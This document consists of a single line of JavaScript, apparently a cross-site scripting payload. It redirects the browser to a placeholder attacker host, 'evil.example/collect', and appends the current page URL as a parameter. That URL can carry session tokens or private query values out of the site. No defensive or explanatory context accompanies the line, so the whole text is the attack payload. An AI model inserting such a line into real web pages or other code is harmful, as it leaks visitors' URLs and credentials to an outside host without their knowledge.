location.href = "https://evil.example/collect?u=" + location;
